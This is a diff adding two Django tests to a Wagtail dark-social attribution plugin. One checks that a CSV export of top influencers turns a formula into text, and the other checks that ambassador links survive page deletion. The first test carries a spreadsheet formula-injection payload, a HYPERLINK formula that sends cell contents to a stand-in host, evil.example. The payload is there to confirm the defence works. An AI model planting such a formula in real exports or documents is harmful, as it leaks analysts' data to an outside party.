@@ -61,6 +61,18 @@ def test_the_influencer_report_ranks_a_above_b_with_the_same_figures_as_the_shar
     assert xlsx.status_code == 200 and b"".join(xlsx.streaming_content)[:2] == b"PK"
 
 
+def test_a_csv_export_carries_a_formula_someone_sent_as_text(reporter, darksocial_db):
+    # A name (or title) starting a formula would run in the analyst's spreadsheet: an apostrophe makes it text.
+    from wagtail_darksocial.attribution import run
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    share_cascade(a_name=formula)
+    run()
+    exported = signed_in(reporter).get(reverse("wagtail_darksocial_admin:top_influencers") + "?export=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
+    assert rows[0]["name"] == "'" + formula and rows[0]["reach"] == "2"
+
+
 def test_date_and_site_filters_feed_the_report(reporter, attributed):
     client = signed_in(reporter)
     url = reverse("wagtail_darksocial_admin:top_stories")
@@ -125,6 +137,29 @@ def test_ambassador_links_are_snippets_with_the_tracked_url(admin_user, article,
         assert conn.execute("SELECT name FROM links WHERE token = ?", (link.token,)).fetchone()[0] == HOSTILE
     listing = client.get(reverse("wagtailsnippets_wagtail_darksocial_ambassadorlink:list")).content.decode()
     assert link.url in listing and HOSTILE not in listing
+
+
+def test_a_page_with_an_ambassador_link_can_be_deleted_and_the_link_stays(admin_user, article, darksocial_db):
+    # Handed out, the link keeps working for the reports: its token, URL and name stay, whatever became of the page.
+    from wagtail.models import Page
+
+    from wagtail_darksocial.models import AmbassadorLink
+
+    client = signed_in(admin_user)
+    snippets = "wagtailsnippets_wagtail_darksocial_ambassadorlink"
+    assert client.post(reverse(f"{snippets}:add"), {"name": "Rosa", "page": article.pk}).status_code == 302
+    link = AmbassadorLink.objects.get()
+    deleted = client.post(f"/admin/pages/{article.pk}/delete/")
+    assert deleted.status_code == 302 and not Page.objects.filter(pk=article.pk).exists()
+    kept = AmbassadorLink.objects.get()
+    assert (kept.page, kept.token, kept.url) == (None, link.token, link.url)
+    renamed = client.post(reverse(f"{snippets}:edit", args=[kept.pk]), {"name": "Rosa Diaz", "page": ""})
+    assert renamed.status_code == 302, renamed.content.decode()[:2000]
+    with sqlite3.connect(darksocial_db) as conn:
+        assert conn.execute("SELECT name, url FROM links WHERE token = ?", (link.token,)).fetchone() == (
+            "Rosa Diaz", link.url.split("#")[0])
+    without_page = client.post(reverse(f"{snippets}:add"), {"name": "Ana", "page": ""})
+    assert without_page.status_code == 200 and "choose the page the link opens" in without_page.content.decode()
 
 
 def test_the_menu_shows_only_to_the_permission(reporter, editor, settings):
